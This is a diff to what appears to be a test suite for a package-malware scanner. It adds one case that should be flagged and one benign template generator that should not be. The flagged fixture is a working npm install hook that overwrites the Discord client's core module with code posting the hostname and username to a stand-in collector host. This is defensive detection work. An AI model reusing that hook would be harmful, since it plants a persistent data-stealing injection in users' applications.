@@ -2129,3 +2129,41 @@ google-chrome --headless=new --load-extension="$PWD/dist" --user-data-dir="$(mkt
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('a template written into another application (round 11, after the session)', () => {
+  const pkg = (files: Record<string, string>) =>
+    analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'presence-bridge',
+        version: '0.4.0',
+        scripts: { install: 'node bin/setup.js' },
+      }),
+      ...files,
+    });
+  it("a template filled with a collector's address and written over the Discord client's core module", () => {
+    const found = pkg({
+      'bin/setup.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const roots = { win32: [process.env.APPDATA], linux: [path.join(os.homedir(), '.config')] }[process.platform] || [];
+const hook = fs.readFileSync(path.join(__dirname, '..', 'assets', 'bridge.tmpl'), 'utf8').split('__SINK__').join('https://presence-sync.example.net/in');
+for (const r of roots)
+  for (const ver of fs.readdirSync(path.join(r, 'discord')))
+    fs.writeFileSync(path.join(r, 'discord', ver, 'modules', 'discord_desktop_core', 'index.js'), hook);`,
+      'assets/bridge.tmpl': `const https = require('https'), os = require('os');
+const q = https.request('__SINK__', { method: 'POST' });
+q.end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username }));
+module.exports = require('./core.asar');`,
+    });
+    expect(found.evidence.map((f) => f.rule)).toContain('js.patch-application');
+    expect(threatsOf(found)).toContain('data_exfiltration');
+  });
+  it('quiet: a generator that fills its own template and writes it into its own folder', () => {
+    const found = pkg({
+      'bin/setup.js': `const fs = require('fs'), path = require('path');
+const out = fs.readFileSync(path.join(__dirname, '..', 'assets', 'entry.tmpl'), 'utf8').replace('__NAME__', 'presence-bridge');
+fs.writeFileSync(path.join(__dirname, '..', 'lib', 'entry.js'), out);`,
+      'assets/entry.tmpl': `'use strict';
+module.exports = { name: '__NAME__', connect: (ipc) => ipc.send('hello') };`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
